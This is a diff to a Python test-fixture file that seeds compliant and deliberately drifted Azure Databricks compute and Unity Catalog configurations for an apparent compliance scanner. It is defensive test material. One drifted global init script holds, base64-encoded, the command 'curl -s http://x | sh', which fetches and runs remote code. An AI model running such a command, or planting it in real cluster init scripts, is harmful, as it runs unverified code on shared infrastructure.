@@ -7,6 +7,8 @@ wrapped as {"type", "value"}, display-name locations, embedded subnets and secur
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import sys
 import zlib
@@ -278,6 +280,72 @@ COMPLIANT_TOKEN_ACL = {"object_id": "authorization/tokens", "object_type": "toke
 `TokenPermissions.from_dict` fields)."""
 
 
+
+# ---- compute and Unity Catalog (shapes: databricks-sdk-py 0.162.0 compute.py / catalog.py) --------------
+INIT_SCRIPT_TEXT = b"#!/bin/bash\n# install the monitoring agent\necho monitoring-agent\n"
+INIT_SCRIPT_SHA256 = hashlib.sha256(INIT_SCRIPT_TEXT).hexdigest()
+UC_POLICY_DEFINITION = json.dumps({"data_security_mode": {"type": "fixed", "value": "DATA_SECURITY_MODE_STANDARD"},
+                                   "spark_version": {"type": "regex", "pattern": "1[5-6]\\..*"}})
+UC_POLICY_SHA256 = hashlib.sha256(json.dumps(json.loads(UC_POLICY_DEFINITION), sort_keys=True,
+                                             separators=(",", ":")).encode()).hexdigest()
+METASTORE_ID = "4a1b2c3d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"
+ACCESS_CONNECTOR_ID = (f"/subscriptions/{SUB_PROD}/resourceGroups/rg-uc/providers/Microsoft.Databricks/"
+                       "accessConnectors/ac-uc-prod")
+ENCRYPTION_CONF = {"spark.authenticate": "true", "spark.network.crypto.enabled": "true",
+                   "spark.io.encryption.enabled": "true"}
+SPARK_VERSIONS = [{"key": k, "name": n} for k, n in (
+    ("16.4.x-scala2.12", "16.4 LTS (includes Apache Spark 3.5.2, Scala 2.12)"),
+    ("15.4.x-scala2.12", "15.4 LTS (includes Apache Spark 3.5.0, Scala 2.12)"),
+    ("14.3.x-scala2.12", "14.3 LTS (includes Apache Spark 3.5.0, Scala 2.12)"),
+    ("13.3.x-scala2.12", "13.3 LTS (includes Apache Spark 3.4.1, Scala 2.12)"))]
+
+
+def cluster(cluster_id: str, name: str, *, source: str = "UI", mode: str | None = "DATA_SECURITY_MODE_STANDARD",
+            version: str = "15.4.x-scala2.12", policy_id: str | None = "pol-uc-standard",
+            conf: dict[str, str] | None = None, init_scripts: list[dict[str, Any]] | None = None) -> dict[str, Any]:
+    """A `ClusterDetails` as GET /api/2.1/clusters/list returns it."""
+    doc: dict[str, Any] = {"cluster_id": cluster_id, "cluster_name": name, "cluster_source": source,
+                           "spark_version": version, "node_type_id": "Standard_D4ds_v5", "num_workers": 2,
+                           "state": "RUNNING", "spark_conf": dict(ENCRYPTION_CONF if conf is None else conf),
+                           "init_scripts": init_scripts if init_scripts is not None else
+                           [{"workspace": {"destination": "/Shared/init/agent.sh"}}]}
+    if mode is not None:
+        doc["data_security_mode"] = mode
+    if policy_id is not None:
+        doc["policy_id"] = policy_id
+    return doc
+
+
+def compute_uc_state() -> dict[str, Any]:
+    """Compliant compute and Unity Catalog seed keys (core/contracts/estate_v1.py)."""
+    return {
+        "global_init_scripts": [{"script_id": "A1B2C3D4E5F60001", "name": "install-monitoring-agent",
+                                 "enabled": True, "position": 0,
+                                 "script": base64.b64encode(INIT_SCRIPT_TEXT).decode(), "created_at": NOW_MS,
+                                 "created_by": "alice@contoso.com", "updated_at": NOW_MS,
+                                 "updated_by": "alice@contoso.com"}],
+        "clusters": [cluster("0101-120000-abcd0001", "shared-analytics"),
+                     # a job cluster without UC: out of scope (compute.cluster_sources is UI, API)
+                     cluster("0101-120000-job00001", "job-nightly", source="JOB", mode="NONE", policy_id=None)],
+        "spark_versions": json.loads(json.dumps(SPARK_VERSIONS)),
+        "cluster_policies": [{"policy_id": "pol-uc-standard", "name": "uc-standard",
+                              "definition": UC_POLICY_DEFINITION, "created_at_timestamp": NOW_MS}],
+        "policy_permissions": {"pol-uc-standard": {"access_control_list": [
+            {"group_name": "users", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]}]}},
+        "metastore_assignment": {"workspace_id": 0, "metastore_id": METASTORE_ID, "default_catalog_name": "main"},
+        "metastore_summary": {"name": "metastore-westeurope", "owner": "uc-admins", "region": "westeurope",
+                              "delta_sharing_scope": "INTERNAL_AND_EXTERNAL",
+                              "delta_sharing_recipient_token_lifetime_in_seconds": 30 * 86400},
+        "default_namespace": {"value": "main"},
+        "storage_credentials": [{"name": "uc-root", "owner": "uc-admins", "read_only": False,
+                                 "azure_managed_identity": {"access_connector_id": ACCESS_CONNECTOR_ID,
+                                                            "credential_id": "c-0001"}}],
+        "current_user": {"id": "7001", "userName": SP_APP_ID, "groups": [{"display": "uc-admins", "value": "7100"}]},
+        "system_schemas": [{"schema": "access", "state": "ENABLE_COMPLETED"},
+                           {"schema": "compute", "state": "AVAILABLE"}],
+    }
+
+
 COMPLIANT_CONF = {"enableIpAccessLists": "true", "maxTokenLifetimeDays": "90",
                   "enableVerboseAuditLogs": "true", "enableDbfsFileBrowser": "false"}
 BASELINE_ALLOW = ["203.0.113.0/24", "198.51.100.7/32"]
@@ -297,7 +365,8 @@ def api_state(conf: dict[str, str] | None = None, allow: list[str] | None = None
             "token_permissions": json.loads(json.dumps(COMPLIANT_TOKEN_ACL)),
             "settings": json.loads(json.dumps(COMPLIANT_SETTINGS)), "observed_at": NOW_MS,
             "secret_scopes": json.loads(json.dumps(COMPLIANT_SCOPES)),
-            "secret_acls": json.loads(json.dumps(COMPLIANT_SECRET_ACLS)), "scim": scim_state()}
+            "secret_acls": json.loads(json.dumps(COMPLIANT_SECRET_ACLS)), "scim": scim_state(),
+            **compute_uc_state()}
 
 
 def network_for(sub: str, rg: str, tag: str, *, space: str, public: str, private: str,
@@ -514,7 +583,37 @@ def sample_estate() -> dict[str, Any]:
     docs[0]["properties"]["subnets"][1]["properties"]["delegations"] = []
     resources += docs
     ws = workspace_doc(SUB_PROD, "rg-ml", "dbw-ml-prod", 1003, vnet_id=vid, tags={"env": "prod"})
-    add(ws, api_state(), diag_doc(ws["id"], ["accounts", "clusters"]))
+    api = api_state()
+    # compute drift: an unknown global init script, a cluster without UC on an unsupported old runtime, no
+    # policy, a DBFS init script and no encryption confs; an edited policy, an unpinned one users may use,
+    # and legacy global init scripts switched back on
+    api["workspace_conf"]["enableDeprecatedGlobalInitScripts"] = "true"
+    api["global_init_scripts"].append({"script_id": "A1B2C3D4E5F60002", "name": "debug-tools", "enabled": True,
+                                       "position": 1, "script": base64.b64encode(b"curl -s http://x | sh").decode()})
+    api["clusters"].append(cluster("0101-120000-ml000001", "ml-legacy", mode="NONE", version="12.2.x-scala2.12",
+                                   policy_id=None, conf={}, init_scripts=[{"dbfs": {"destination":
+                                                                                     "dbfs:/databricks/init/ml.sh"}}]))
+    api["clusters"].append(cluster("0101-120000-ml000002", "ml-gpu", policy_id="pol-ml-free",
+                                   mode="LEGACY_SINGLE_USER_STANDARD"))
+    api["policy_compliance"] = {"0101-120000-ml000002": {"is_compliant": False,
+                                                         "violations": {"spark_conf.spark.databricks.acl": "x"}}}
+    api["cluster_policies"][0]["definition"] = UC_POLICY_DEFINITION.replace("1[5-6]", "1[2-6]")
+    api["cluster_policies"].append({"policy_id": "pol-ml-free", "name": "ml-free-form",
+                                    "definition": json.dumps({"node_type_id": {"type": "unlimited"}})})
+    api["policy_permissions"]["pol-ml-free"] = {"access_control_list": [
+        {"group_name": "users", "all_permissions": [{"permission_level": "CAN_USE", "inherited": False}]}]}
+    # Unity Catalog drift: another metastore, owned by a person, sharing tokens that never expire, a
+    # service-principal storage credential, an unapproved access connector, audit system schema off
+    api["metastore_assignment"]["metastore_id"] = "9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a"
+    api["metastore_summary"].update(owner="alice@contoso.com", delta_sharing_recipient_token_lifetime_in_seconds=0)
+    api["current_user"]["groups"] = []
+    api["current_user"]["userName"] = "alice@contoso.com"
+    api["storage_credentials"] += [
+        {"name": "legacy-sp", "azure_service_principal": {"directory_id": TENANT, "application_id": SP_APP_ID}},
+        {"name": "ml-scratch", "azure_managed_identity": {"access_connector_id": ACCESS_CONNECTOR_ID.replace(
+            "ac-uc-prod", "ac-ml-personal")}}]
+    api["system_schemas"][0]["state"] = "AVAILABLE"
+    add(ws, api, diag_doc(ws["id"], ["accounts", "clusters"]))
     # 4. workspace drift: public access on, no private endpoint, standard SKU, no SCC, no CMK, wrong region
     ws = workspace_doc(SUB_PROD, "rg-legacy", "dbw-legacy", 1004, location="East US 2", sku="standard",
                        npip=None, public_access="Enabled", private_endpoint=None, cmk=False,
@@ -573,6 +672,9 @@ def sample_estate() -> dict[str, Any]:
     api = api_state(conf=dict(COMPLIANT_CONF, enableTokensConfig="false"))
     api["settings"]["disable_legacy_dbfs"] = {"value": False}
     api["settings"]["disable_legacy_access"] = {"value": False}
+    # no Unity Catalog metastore: DBX-UC-001/002 fire, UC-003/004/005 cannot apply
+    for key in ("metastore_assignment", "metastore_summary", "default_namespace", "system_schemas"):
+        del api[key]
     add(ws, api, diag_doc(ws["id"], all_cats))
     # 7. dev workspace that shares its subnets with #6, no egress; API unreadable (absent from snapshot)
     ws = workspace_doc(SUB_DEV, "rg-dev", "dev-shared", 2002, public_access="Enabled", private_endpoint=None,
@@ -585,7 +687,9 @@ def sample_estate() -> dict[str, Any]:
                             private="10.60.1.0/24", nsg_extra=[rule], egress=False)
     resources += docs
     ws = workspace_doc(SUB_DEV, "legacy-rg", "vendor-etl", 2003, vnet_id=vid, tags={"env": "prod"})
-    add(ws, api_state(block=["192.0.2.0/24"]), diag_doc(ws["id"], all_cats))
+    api = api_state(block=["192.0.2.0/24"])
+    api["current_user"]["groups"] = []  # not metastore admin: DBX-UC-004 reads a partial list, says so
+    add(ws, api, diag_doc(ws["id"], all_cats))
     # 9. Serverless workspace (no classic compute plane: no VNet, NSG, no-public-IP or managed disks), private
     # only; the classic-compute rules and IP access lists are not applicable to it
     ws = serverless_workspace_doc(SUB_PROD, "rg-serverless", "dbw-serverless-prod", 1009, public_access="Disabled",
